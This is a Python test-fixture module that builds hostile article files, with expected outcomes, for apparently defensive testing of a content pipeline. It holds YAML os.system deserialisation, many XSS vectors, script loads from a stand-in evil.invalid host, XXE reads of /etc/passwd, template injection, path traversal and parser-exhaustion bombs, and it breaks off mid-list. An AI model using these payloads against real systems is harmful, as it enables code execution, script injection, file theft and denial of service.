# ruff: noqa: RUF001 - look-alikes are among the weapons
"""Articles from people who mean harm: small files by category, each made to break one thing, and names made to break a file system.

Each is what a file below content/ may hold. `fate` is what has to become of it: "out" (a Problem, no page), "kept" (a page and a Problem),
"fine" (a page), "some" (a page, a Problem or both).
"""

from __future__ import annotations

import json
import os
import random
from collections.abc import Iterable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any, Literal, NamedTuple

Fate = Literal["out", "kept", "fine", "some"]
JINJA = "{{ 7*'zq' }}{% for x in 'ab' %}{{ x }}yy{% endfor %}{# gone #}{{ config }}{{ ''.__class__.__mro__ }}"
EXPANDED = ("zqzqzqzqzqzqzq", "ayybyy")
"""What a page would show if a template had been made of content."""

SCRIPT = "<script>window.__hostile=1</script>"
NEWS = "The harbour master said that the gate was closed. About 300 people waited there until Friday.\n"
STORY = "".join(
    f"<p>{text}</p>"
    for text in (
        "The harbour master said on Monday that the gate was closed after a storm had bent its upper hinge.",
        "About 300 people waited there until Friday, when engineers from Northgate lifted it with two cranes.",
        "A spokeswoman denied that anybody had been hurt, and the ferries sailed again in the afternoon.",
        "Fishermen had moored their boats outside the wall for three nights, since nobody could tell them when it would open.",
        "The town council wants to know by the summer why the hinge had not been looked at since the flood of last year.",
        "Repairs are to cost twice as much as a new gate would have done, the engineers wrote in a letter to the mayor.",
    )
)
MARKS = "[]()<>`*_~#&|!\"'\\${}@%^+=:;,.?/-"


class Hostile(NamedTuple):
    """`path` is relative to content/; its folder is the category."""

    path: str
    data: bytes
    fate: Fate = "some"

    @property
    def category(self) -> str:
        return self.path.partition("/")[0]


def everything() -> list[Hostile]:
    """All of them, in the same order each time."""
    parts = (
        yaml(),
        keys(),
        markdown(),
        markup(),
        schemes(),
        pages(),
        json_files(),
        json_types(),
        plain(),
        encodings(),
        sizes(),
        fields(),
        dates(),
        noise(),
    )
    return [one for part in parts for one in part]


def _named(category: str, suffix: str, pieces: Iterable[tuple[str, str | bytes, Fate]]) -> Iterator[Hostile]:
    for name, data, fate in pieces:
        yield Hostile(f"{category}/{name}.{suffix}", data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data, fate)


# ------------------------------------------------------------------ front matter


def _front(yaml_text: str, body: str = NEWS) -> str:
    return f"---\n{yaml_text}\n---\n{body}"


def yaml() -> Iterator[Hostile]:
    """Front matter that a YAML parser chokes on, runs, or takes for something else."""
    bomb = "\n".join(f"k{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" if n else "k0: &a0 [x]" for n in range(10))
    objects = (
        "!!python/object/apply:os.system ['touch hacked']",
        "!!python/name:os.system",
        "!!binary aGk=",
        "!local x",
        "!!set {a, b}",
        "!!python/object/new:type []",
        "!<tag:x> y",
    )
    cases: list[tuple[str, str | bytes, Fate]] = [
        ("alias-bomb", _front(bomb), "out"),
        ("alias-quadratic", _front("a: &a " + "x" * 9000 + "\ntags: [" + ",".join(["*a"] * 900) + "]"), "out"),
        ("alias-self", _front("tags: &t [*t]"), "out"),
        ("merge-key", _front("a: &a {title: x}\n<<: *a"), "out"),
        ("merge-without-anchor", _front("<<: {title: x}"), "kept"),
        ("second-document", _front("title: a\n--- \ntitle: b"), "some"),
        ("document-end", "---\ntitle: a\n...\ntitle: b\n---\n" + NEWS, "some"),
        ("directive", _front("%YAML 9.9\n--- a"), "some"),
        ("directive-tag", _front("%TAG ! tag:evil,2000:\ntitle: x"), "out"),
        ("tab-indent", _front("tags:\n\t- a\n\t- b"), "out"),
        ("tab-after-colon", _front("title:\tgate"), "some"),
        ("long-scalar", _front("title: " + "x" * 1_000_000), "out"),
        ("long-key", _front("x" * 60_000 + ": y"), "some"),
        ("many-keys", _front("\n".join(f"k{n}: v" for n in range(6000))), "some"),
        ("deep-flow", _front("tags: " + "[" * 10_000), "out"),
        ("deep-flow-closed", _front("tags: " + "[" * 10_000 + "]" * 10_000), "out"),
        ("deep-flow-maps", _front("tags: " + "{a: " * 5_000 + "}" * 5_000), "out"),
        ("deep-block", _front("\n".join(" " * n + "k:" for n in range(300))), "out"),
        ("deep-dashes", _front("tags: \n" + "- " * 10_000 + "x"), "out"),
        ("deep-questions", _front("? " * 10_000 + "x"), "out"),
        ("surrogate-escape", _front('title: "a \\ud800 b"'), "some"),
        ("surrogate-pair", _front('title: "a \\ud83d\\ude00 b"'), "some"),
        ("big-escape", _front('title: "\\UFFFFFFFF"'), "out"),
        ("nul-escape", _front('title: "a\\0b"'), "fine"),
        ("control-escape", _front('title: "a\\x1b[31m\\a\\b\\e b"'), "fine"),
        ("nul-in-value", _front("title: a\0b"), "some"),
        ("control-in-value", _front("title: a\x07b\x1b"), "some"),
        ("del-and-c1", _front("title: a\x7f\x80\x9fb"), "some"),
        ("bom", "\ufeff" + _front("title: gate"), "fine"),
        ("bom-within", _front("\ufefftitle: gate"), "some"),
        ("crlf", _front("title: gate\nurl: https://a.example/").replace("\n", "\r\n"), "fine"),
        ("cr-only", _front("title: gate").replace("\n", "\r"), "fine"),
        ("line-separators", _front("title: a\u2028url: https://b.example/\u2029c\x85draft: true"), "some"),
        ("unterminated", "---\ntitle: gate\n" + NEWS, "out"),
        ("only-opening", "---", "some"),
        ("only-both", "---\n---\n", "out"),
        ("empty-front", "---\n---\n" + NEWS, "fine"),
        ("list", _front("- title\n- x"), "out"),
        ("scalar", _front("just words"), "out"),
        ("number", _front("42"), "out"),
        ("dashes-within", _front("title: a\nsummary: |\n  ---\n  b"), "fine"),
        ("dashes-in-quotes", _front('title: "a\n---\nb"'), "out"),
        ("five-dashes", "-----\ntitle: a\n-----\n" + NEWS, "some"),
        ("toml", '+++\ntitle = "x"\n+++\n' + NEWS, "some"),
        ("json-front", ';;;\n{"title": "x"}\n;;;\n' + NEWS, "some"),
        ("unclosed-quote", _front('title: "never closed'), "out"),
        ("unclosed-bracket", _front("tags: [a, b"), "out"),
        ("colon-in-title", _front("title: Gate: closed"), "out"),
        ("percent-at", _front("title: @gate\nauthor: %x"), "out"),
        ("backtick", _front("title: `gate`"), "out"),
        ("complex-key", _front("? [a, b]\n: c\ntitle: x"), "out"),
        ("folded-jinja", _front("title: >\n  " + JINJA), "fine"),
        ("literal-script", _front("title: |\n  " + SCRIPT), "fine"),
        ("proto", _front("__proto__: {x: 1}\nconstructor: y\n__class__: z"), "kept"),
        ("dunder", _front("__init__: x\nself: y\nid: z\npath: ../../etc/passwd\nslug: ../x\ntemplate: /etc/passwd\noutput: ../../x"), "kept"),
    ]
    cases += [(f"object-{n}", _front(f"title: {text}"), "out") for n, text in enumerate(objects)]
    odd = (
        "no",
        "190:20:30",
        "2024-02-30",
        "0o14",
        "0x1F",
        ".inf",
        "-.NaN",
        "~",
        "null",
        "1_000",
        "1e999",
        "=",
        "<<",
        "2001-12-14t21:59:43.10-05:00",
        "[]",
        "{}",
        "{a: b}",
        "[a, [b, [c]]]",
        "''",
        '""',
        "|",
        ">",
        "-",
        "?",
        "!!",
        "&",
        "*",
    )
    cases += [
        (f"odd-{key}-{n}", _front(f"title: gate\n{key}: {text}" if key != "title" else f"title: {text}"), "some")
        for n, text in enumerate(odd)
        for key in ("title", "date", "draft", "tags")
    ]
    return _named("yaml", "md", cases)


def keys() -> Iterator[Hostile]:
    """Keys that are equal, nearly equal or no keys."""
    cases: list[tuple[str, str | bytes, Fate]] = [
        ("equal", _front("title: a\noutlet: b\ntitle: c"), "out"),
        ("equal-nested", _front("title: a\nx:\n  y: 1\n  y: 2"), "out"),
        ("equal-flow", _front("x: {y: 1, y: 2}"), "out"),
        ("equal-quoted", _front("title: a\n'title': c"), "out"),
        ("equal-case", _front("title: a\nTITLE: c"), "kept"),
        ("equal-draft", _front("draft: true\ndraft: false"), "out"),
        ("control", _front('"ti\\u0007tle": a'), "kept"),
        ("escape-sequence", _front('"\\e[2J": a'), "kept"),
        ("bidi", _front('"\\u202eeltit": a'), "kept"),
        ("script", _front(f'"{SCRIPT}": a'), "kept"),
        ("jinja", _front('"{{ 7*7 }}": a'), "kept"),
        ("empty", _front('"": a'), "kept"),
        ("null", _front("~: a"), "kept"),
        ("newline", _front('"a\\nb": c'), "kept"),
        ("zero-width", _front('"ti\\u200btle": a'), "kept"),
        ("look-alike", _front("tit\u04cfe: a"), "kept"),
        ("full-width", _front("ｔｉｔｌｅ: a"), "kept"),
    ]
    return _named("keys", "md", cases)


# ------------------------------------------------------------------ Markdown


def markdown() -> Iterator[Hostile]:
    """Markdown on which a renderer is quadratic, recurses or multiplies."""
    width = 50_000
    pieces = ("[", "[a](", "![[](", "<![", "[[", "](", "![", "`", "*", "_", "~", "<", "&", "(", "|", "**a", "*a_", "__a*", "<a ", "<!--", "<?", "&#", "\\", "a*", "[a]:", "[^", "``a`", "***", "* ", "<a href='", "!", "[a][", ":", "#", "=", "-", "^", "- ", "> ", "1. ", "<b>", "</b>", "&amp;", "http://", "<http://", "[](", "\"'", "$$", "{{", "{%", "]]>", "\\`", "`\\", "|-", "~~~", "+ ", "\t", "<a><b>")  # fmt: skip
    for number, piece in enumerate(pieces):
        yield Hostile(f"markdown/run-{number}.md", (NEWS + "\n" + piece * (width // len(piece)) + "\n\n" + NEWS).encode())
        yield Hostile(f"markdown/lines-{number}.md", (NEWS + "\n" + (piece + "\n") * 3_000 + "\n" + NEWS).encode())
    table = "|".join("a" * 10_000)
    dash = "|".join(["-"] * 10_000)
    nested = "".join("    " * n + "- a\n" for n in range(400))
    cases: list[tuple[str, str | bytes, Fate]] = [
        ("nested-lists", "".join(" " * n + "- a\n" for n in range(1, 1_400)), "some"),
        ("nested-lists-by-four", nested, "some"),
        ("nested-lists-in-one-line", "- " * 3_000 + "a", "some"),
        ("nested-quotes", ">" * 5_000 + " a", "some"),
        ("nested-quotes-spaced", "> " * 5_000 + "a", "some"),
        ("nested-quote-lines", "".join(">" * n + " a\n\n" for n in range(1, 500)), "some"),
        ("quote-list-mix", "> - " * 2_000 + "a", "some"),
        ("reference-bomb", f"[a]: https://a.example/{'x' * 30_000}\n\n" + "[a] " * 9_000, "some"),
        ("reference-many", "\n".join(f"[r{n}]: https://a.example/{n}" for n in range(8_000)) + "\n\n" + NEWS, "some"),
        ("reference-title", f'[a]: https://a.example/ "{"t" * 20_000}"\n\n' + "[a][a] " * 5_000, "some"),
        ("reference-split", "[a]:\n  https://a.example/" + "x" * 20_000 + "\n\n" + "[a]\n" * 5_000, "some"),
        ("wide-table", f"{table}\n{dash}\n{table}\n", "some"),
        ("long-table", "a|b\n-|-\n" + "a|b\n" * 20_000, "some"),
        ("table-escape", "a|b\n-|-\n" + "\\|" * 20_000, "some"),
        ("emphasis-nest", "*a **b " * 8_000, "some"),
        ("emphasis-pairs", "*a*_b_" * 8_000, "some"),
        ("entity-run", "&#x41;" * 8_000, "some"),
        ("entity-huge", "&#" + "9" * 40_000 + ";" + NEWS, "some"),
        ("entity-surrogate", "&#xD800; &#x0; &#x110000; &#x202e; " + NEWS, "fine"),
        ("setext", ("a\n=\n" * 8_000), "some"),
        ("headings", "# a\n" * 10_000, "some"),
        ("heading-long", "#" * 50_000, "some"),
        ("rules", "---\n\n" * 8_000 + NEWS, "some"),
        ("fences", "```\n" * 10_001 + NEWS, "some"),
        ("fence-long", "`" * 30_000 + "\n" + NEWS, "some"),
        ("fence-attributes", '``` {.py onclick="alert(1)" #x style="a"}\nx\n```\n\n' + NEWS, "fine"),
        ("unclosed-html", "<div>" * 10_000 + NEWS, "some"),
        ("unclosed-attribute", '<a href="' * 5_000 + NEWS, "some"),
        ("stash-marks", "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0001\x03 " + NEWS, "some"),
        ("blank-lines", "\n" * 100_000 + NEWS, "fine"),
        ("blank-wide", (" " * 200 + "\n") * 2_000 + NEWS, "some"),
        ("tabs", "\t" * 50_000 + "a\n" + NEWS, "some"),
        ("autolinks", "<https://a.example/> " * 3_000, "some"),
        ("footnotes", "[^1] " * 4_000 + "\n\n[^1]: a\n", "some"),
        ("images-only", "![a](https://a.example/x.png)\n" * 100, "out"),
        ("attribute-list", "# a {: onclick=alert(1) }\n\n" + NEWS, "some"),
        ("abbreviation", "*[a]: b\n" * 5_000 + NEWS, "some"),
        ("toc-macro", "[TOC]\n\n[[_TOC_]]\n\n[[wiki|link]]\n\n!!! note\n    x\n\n" + NEWS, "fine"),
        ("jinja", JINJA + "\n\n" + NEWS, "fine"),
    ]
    yield from _named("markdown", "md", cases)


_HTML = (
    SCRIPT, "<ScRiPt src=//evil.invalid/x></sCrIpT>", "<script>" , "<scr<script>ipt>alert(1)</scr</script>ipt>", "<style>*{background:url(javascript:alert(1))}</style>", "<style>@import '//evil.invalid';", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<base href='https://evil.invalid/'>", "<meta http-equiv=refresh content='0;url=https://evil.invalid'>", "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.invalid/x.css>", "<link rel=import href=data:text/html,x>", "<form action=//evil.invalid><input name=p autofocus onfocus=alert(1)></form>", "<button formaction=javascript:alert(1)>x</button>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<img src=x onerror=alert(1)>", "<img src=`javascript:alert(1)`>", "<img/src=x/onerror=alert(1)>", '<IMG """><SCRIPT>alert(1)</SCRIPT>">', "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<a href='javascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='java&Tab;script&colon;alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a onclick=alert(1) href=https://a.example/>x</a>", "<a href=https://a.example/ style='position:fixed;inset:0' target=_top>x</a>", "<p id=main class=passage data-article=x data-start=0 data-end=9>forged</p>", "<span data-article=gate data-start=0 data-end=3>forged</span>", "<div style='background:url(//evil.invalid)'>x</div>", "<!-- a --><!-- <script>alert(1)</script>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<!--!><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1; ?><?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<textarea></textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</article></main></body></html><script>alert(1)</script>", '"><script>alert(1)</script>', "' onmouseover='alert(1)", "<b <script>alert(1)</script>0", "<img src=x:x onerror\x00=alert(1)>", "<\x00script>alert(1)</script>", "<a\x0chref='javascript:alert(1)'>x</a>", "<x onclick=alert(1)>x</x>", "<dialog open><form method=dialog>x", "<portal src=//evil.invalid>", "<frameset><frame src=javascript:alert(1)></frameset>", "<isindex action=javascript:alert(1)>", "<custom-element onclick=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "\\<script>alert(1)\\</script>", "<script\n>alert(1)</script\n>", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "<img srcset='x 1x, javascript:alert(1) 2x' sizes=x>", "<table background=javascript:alert(1)><tr><td>x</table>", "<ruby><rt><script>alert(1)</script></rt></ruby>", "<select><option><script>alert(1)</script></select>", "<a name=body></a><a id=document></a>", "<label for=x accesskey=x>", JINJA,
)  # fmt: skip


def markup() -> Iterator[Hostile]:
    """Markup that does something when a page shows it as markup: in Markdown, in text, in titles, in saved pages, in JSON."""
    for number, piece in enumerate(_HTML):
        sentence = f"The ministry said {piece} on Friday. Some 40 people waited.\n\n{piece}\n\n{NEWS}"
        title = json.dumps(f"Gate {piece} closed")
        yield Hostile(f"markup/md-{number}.md", _front(f"title: {title}\ndate: 2031-05-09", sentence).encode())
        yield Hostile(f"markup/txt-{number}.txt", f"Gate {piece} closed\n\n{sentence}".encode(), "some" if "\0" in piece else "fine")
        yield Hostile(
            f"markup/json-{number}.json",
            json.dumps({"headline": f"Gate {piece}", "articleBody": sentence, "description": piece, "author": piece}).encode(),
            "fine",
        )
        yield Hostile(
            f"markup/html-{number}.html",
            f"<html><title>Gate {piece}</title><body><article><h1>Gate</h1>{STORY}<p>{piece}</p><p>{NEWS}</p></article>".encode(),
        )


_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;&#97;vascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "jav&#x0A;ascript:alert(1)", "javascript://a.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid", "https:evil.invalid", "https:///evil.invalid", "http://[", "http://[::1]/", "http://[::ffff:127.0.0.1]:80/x", "https://user:pass@a.example/", "https://a.example@evil.invalid/", "https://a.example\\@evil.invalid/", "https://xn--80ak6aa92e.example/", "https://\u0430pple.example/", 'https://a.example/"onclick="alert(1)', "https://a.example/'><script>alert(1)</script>", "https://a.example/<svg onload=alert(1)>", "https://a.example/\u202etxt.exe", "https://a.example/\r\nSet-Cookie: a=b", "https://a.example/" + "x" * 50_000, "https://" + "a." * 5_000 + "example/", "https://a.example:99999999/", "https://a.example:port/", "https://%65vil.invalid/", "https://a..example/", "https://.example/", "https://-a.example/", "https://1.2.3.4.5/", "https://0x7f000001/", "https://a\u3002example/", "https://a.example/#:~:text=x", "https://a.example/%00", "https://a.example/%", "blob:https://a.example/x", "filesystem:https://a.example/x", "about:blank", "mailto:a@a.example?bcc=b", "tel:+1", "ftp://a.example/", "ws://a.example/", "intent://x#Intent;end", "view-source:https://a.example", "x-javascript:alert(1)", "livescript:x", "feed:javascript:alert(1)", "https://a.example/{{ 7*'zq' }}", "https://", "http:", ":", "?", "#", "../../../etc/passwd", "https://a.example\ud800/", "https://\u00ad/", "https://a.example/\u0000",
)  # fmt: skip


def schemes() -> Iterator[Hostile]:
    """Addresses that are no web addresses, in a link, an autolink, a reference, an image, raw HTML and the url of an article."""
    for number, address in enumerate(_ADDRESSES):
        escaped = address.replace('"', "&quot;")
        body = f'A [link]({address} "t") and [other](<{address}>), <{address}>, ![i]({address}), [ref][r].\n\n[r]: {address} \'" onclick="alert(1)\'\n\n<a href="{escaped}">x</a> <img src="{escaped}">\n\n{NEWS}'
        front = f"title: Link {number}\nurl: {json.dumps(address)}" if "\ud800" not in address else 'url: "https://a\\ud800.example/"'
        yield Hostile(f"schemes/md-{number}.md", _front(front, body).encode("utf-8", "replace"))
        record = {"headline": f"Link {number}", "url": address, "articleBody": NEWS, "author": {"name": address}, "publisher": {"url": address}}
        yield Hostile(f"schemes/json-{number}.json", json.dumps(record).encode())
        page = f'<html><head><link rel=canonical href="{escaped}"><meta property="og:url" content="{escaped}"><base href="{escaped}"></head><body><article>{STORY}<p><a href="{escaped}">x</a></p></article>'
        yield Hostile(f"schemes/html-{number}.html", page.encode("utf-8", "replace"))


# ------------------------------------------------------------------ saved pages


def pages() -> Iterator[Hostile]:
    """Saved pages that are deep, endless, or lie."""
    text = f"<article><h1>Gate closed</h1>{STORY}</article>"
    nested = (
        "div",
        "span",
        "b",
        "font",
        "table",
        "ul",
        "a",
        "p",
        "blockquote",
        "section",
        "svg",
        "i",
        "dl",
        "form",
        "select",
        "template",
        "math",
        "h1",
        "button",
        "nobr",
    )
    for tag in nested:
        yield Hostile(f"pages/nested-{tag}.html", f"<html><body>{f'<{tag}>' * 50_000}{text}".encode())
        yield Hostile(f"pages/siblings-{tag}.html", f"<html><body>{text}{f'<{tag}>x</{tag}>' * 8_000}".encode())
        yield Hostile(f"pages/mixed-{tag}.html", f"<html><body>{text}{f'<{tag}><p><i>' * 3_000}x".encode())
    deep = '{"a":' * 20_000 + "1" + "}" * 20_000
    linked = '<script type="application/ld+json">{}</script>'
    cases: list[tuple[str, str | bytes, Fate]] = [
        ("unclosed-everything", "<html><head><title>x<body><article><h1>Gate<p>" + NEWS * 3 + "<div><table><tr><td><ul><li><a href=x", "some"),
        ("json-ld-script", linked.format(json.dumps({"@type": "NewsArticle", "headline": "</script><script>alert(1)</script>"})) + text, "some"),
        ("json-ld-deep", linked.format(deep) + text, "some"),
        ("json-ld-deep-lists", linked.format("[" * 90_000) + text, "some"),
        ("json-ld-many", linked.format('{"@type":"NewsArticle"}') * 4_000 + text, "some"),
        (
            "json-ld-types",
            linked.format('{"@type":["NewsArticle",1,null],"headline":{"a":1},"author":[[["x"]]],"datePublished":7,"publisher":[],"url":{}}') + text,
            "some",
        ),
        ("json-ld-surrogate", linked.format('{"@type":"NewsArticle","headline":"a\\ud800b\\u0000"}') + text, "some"),
        ("json-ld-numbers", linked.format('{"@type":"NewsArticle","headline":' + "9" * 6_000 + "}") + text, "some"),
        ("huge-attribute", f'<p title="{"x" * 900_000}">' + text, "some"),
        ("many-attributes", "<p " + " ".join(f"a{n}=x" for n in range(60_000)) + ">" + text, "some"),
        ("attribute-never-closed", text + '<a title="' + "x" * 500_000, "some"),
        ("tag-never-closed", text + "<a " + "b " * 300_000, "some"),
        ("comment-never-closed", text + "<!--" + "-" * 500_000, "some"),
        ("comments", text + "<!-- -->" * 100_000, "some"),
        ("comment-dashes", text + "<!--" * 100_000, "some"),
        ("entities", text + "<p>" + "&amp;" * 200_000, "some"),
        ("entity-bomb", "<!DOCTYPE html [" + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9)) + "]>" + text + "&a9;", "some"),
        (
            "external-entity",
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><article><p>&x;' + NEWS * 3,
            "some",
        ),
        ("xinclude", '<html xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/>' + text, "some"),
        ("doctype-huge", "<!DOCTYPE " + "x" * 500_000 + ">" + text, "some"),
        ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">' + text, "some"),
        ("meta-many", "<meta name=author content=x>" * 12_000 + text, "some"),
        ("frames", "<frameset><frame src=https://evil.invalid/></frameset>", "out"),
        ("scripts-only", "<script>" + "x" * 10_000 + "</script>", "out"),
        ("script-never-closed", text + "<script>" + "<p>" * 10_000, "some"),
        ("script-in-script", text + "<script><!--<script>" * 5_000, "some"),
        ("lt-run", text + "<" * 300_000, "some"),
        ("lt-slash-run", text + "</" * 200_000, "some"),
        ("lt-bang-run", text + "<!" * 200_000, "some"),
        ("cdata-run", text + "<![CDATA[" * 60_000, "some"),
        ("title-many", "<title>x</title>" * 9_000 + text, "some"),
        ("title-script", "<title><script>alert(1)</script></title>" + text, "some"),
        ("time-many", text + '<time datetime="2031-05-01">' * 8_000, "some"),
        ("nul-everywhere", "\0".join(text), "some"),
        ("plaintext", "<plaintext>" + text, "some"),
        ("empty", "", "out"),
        ("blank", " \n\t " * 1000, "out"),
        ("no-tags", NEWS, "some"),
        ("no-text", "<html><body><img src=x></body></html>", "out"),
        ("charset-lie", b"<meta charset=ascii>" + text.replace("gate", "g\u00e4te").encode("utf-8"), "some"),
        ("charset-zip", b'<meta charset="zip_codec">' + text.encode() + b"\xff\xfe\x80", "some"),
        ("charset-idna", b'<meta charset="idna">' + text.encode() + b"\xff\x80", "some"),
        ("charset-rot13", b'<meta charset="rot13">' + text.encode() + b"\xff\x80", "some"),
        ("charset-undefined", b'<meta charset="undefined">' + text.encode() + b"\xff\x80", "some"),
        ("charset-utf7", b'<meta charset="utf-7">+ADw-script+AD4-alert(1)' + text.encode() + b"\xff\x80", "some"),
        ("charset-utf16", b'<meta charset="utf-16">' + text.encode() + b"\xff", "some"),
        ("charset-long", b'<meta charset="' + b"x" * 4_000 + b'">' + text.encode() + b"\xff", "some"),
        ("charset-sjis", b'<meta charset="shift_jis">' + text.encode() + b"\x81\x00\x5c\xff", "some"),
        ("rows", "<table>" + "<tr><td>a<td>b" * 4_000 + "</table>" + text, "some"),
        ("columns", "<table><tr>" + "<td>a" * 10_000 + "</table>" + text, "some"),
        ("colspan", "<table><tr><td colspan=999999999 rowspan=999999999>a</table>" + text, "some"),
        ("one-line", "<p>" + "word " * 200_000 + "</p>", "some"),
        ("paragraphs", "<p>One gate closed on Friday.</p>" * 6_000, "some"),
        ("links", text + "<p>" + "<a href=https://a.example/>x</a> " * 3_000, "some"),
    ]
    yield from _named("pages", "html", cases)


# ------------------------------------------------------------------ JSON


def json_files() -> Iterator[Hostile]:
    """Files that a JSON parser chokes on or reads in two ways."""
    good = {"headline": "Gate closed", "articleBody": NEWS}
    many = json.dumps([{"headline": f"Gate {n}", "articleBody": f"Gate {n} was closed. Some {n} people waited."} for n in range(300)])
    graph = json.dumps({"@context": "x", "@graph": [{"@type": "Person"}, 7, None, {"@type": "NewsArticle", **good}]})
    cases: list[tuple[str, str | bytes, Fate]] = [
        ("deep-lists", "[" * 100_000, "out"),
        ("deep-lists-closed", "[" * 100_000 + "]" * 100_000, "out"),
        ("deep-objects", '{"a":' * 100_000 + "1" + "}" * 100_000, "out"),
        ("deep-in-body", '{"articleBody":' + "[" * 900 + '"x"' + "]" * 900 + "}", "out"),
        ("deep-graph", '{"@graph":[' * 500 + "1" + "]}" * 500, "out"),
        ("double-body", '{"headline":"a","articleBody":"one","articleBody":"two"}', "out"),
        ("double-nested", '{"headline":"a","articleBody":"One gate closed.","author":{"name":"x","name":"y"}}', "some"),
        ("nan", '{"headline":NaN,"articleBody":"One gate closed.","date":Infinity,"x":-Infinity}', "some"),
        ("surrogates", '{"headline":"a\\ud800","articleBody":"One \\udfff gate \\ud800\\ud800 closed.","author":"\\udc00"}', "fine"),
        ("huge-int", '{"headline":' + "9" * 5_000 + ',"articleBody":"One gate closed."}', "some"),
        ("huge-int-date", '{"headline":"a","date":' + "9" * 5_000 + ',"articleBody":"One gate closed."}', "some"),
        ("huge-float", '{"headline":"a","date":1e999999999,"articleBody":"One gate closed."}', "some"),
        ("many", many, "fine"),
        ("tiny-articles", json.dumps([{"articleBody": f"Gate {n}."} for n in range(1_000)]), "some"),
        ("equal-articles", json.dumps([good] * 50), "some"),
        ("lists-in-lists", json.dumps([[good], [[good]]]), "out"),
        ("mixed-list", json.dumps([good, 7, None, "x", [], {}]), "kept"),
        ("empty-list", "[]", "out"),
        ("empty-object", "{}", "out"),
        ("null", "null", "out"),
        ("number", "7", "out"),
        ("text", '"x"', "out"),
        ("empty", "", "out"),
        ("blank", "   \n", "out"),
        ("bom", "\ufeff" + json.dumps(good), "fine"),
        ("utf-16", json.dumps(good).encode("utf-16"), "fine"),
        ("utf-32", json.dumps(good).encode("utf-32"), "fine"),
        ("lines", json.dumps(good) + "\n" + json.dumps(good), "out"),
        ("trailing-comma", '{"headline":"a",}', "out"),
        ("comment", '{/* x */"headline":"a"}', "out"),
        ("single-quotes", "{'headline':'a'}", "out"),
        ("unterminated", '{"headline":"a', "out"),
        ("bad-escape", '{"headline":"\\x41"}', "out"),
        ("raw-control", '{"headline":"a\x01b","articleBody":"x"}', "some"),
        ("raw-newline", '{"headline":"a\nb","articleBody":"x"}', "some"),
        ("graph", graph, "fine"),
        ("graph-empty", '{"@graph":[]}', "out"),
        ("graph-null", '{"@graph":null,"articleBody":"One gate closed."}', "fine"),
        ("proto", json.dumps({**good, "__proto__": {"x": 1}, "__class__": "x", "constructor": {}}), "fine"),
        ("long-key", json.dumps({**good, "k" * 500_000: 1}), "fine"),
        ("many-keys", json.dumps({**good, **{f"k{n}": n for n in range(50_000)}}), "fine"),
        ("many-authors", json.dumps({**good, "author": [f"Writer {chr(65 + n % 26)}x{n}" for n in range(8_000)]}), "some"),
        ("many-tags", json.dumps({**good, "keywords": [f"tag{n}" for n in range(8_000)]}), "some"),
        ("html-body", json.dumps({**good, "articleBody": "<p>" * 40_000 + NEWS}), "some"),
        ("html-bomb", json.dumps({**good, "articleBody": "<div><p>" * 9_000 + NEWS}), "some"),
        ("lt-run", json.dumps({**good, "articleBody": "<p>" + "<" * 100_000 + NEWS}), "some"),
        ("other-type", json.dumps({"@type": "Recipe", **good}), "some"),
        ("type-odd", json.dumps({"@type": [None, {}, 7, ["NewsArticle"]], **good}), "some"),
        ("separators", '{"headline":"a\u2028b\u2029c","articleBody":"One\u2028gate\u2029closed."}', "fine"),
        ("member-path", json.dumps([{"url": "https://a.example/../../etc/passwd", **good}, {"url": "../../x", **good}]), "some"),
    ]
    return _named("json", "json", cases)


def json_types() -> Iterator[Hostile]:
    """Every field with every kind of wrong value."""
    wrong: tuple[Any, ...] = (
        None,
        True,
        0,
        -1.5,
        "",
        " ",
        [],
        {},
        [None],
        [[]],
        [{}],
        {"name": None},
        {"name": {"name": "x"}},
        {"@value": 7},
        ["a", 7, None, {"name": "b"}],
        {"name": ["x"]},
        "\0\x07",
        "\u202e\u2066",
        SCRIPT,
        JINJA,
        [[["x"]]],
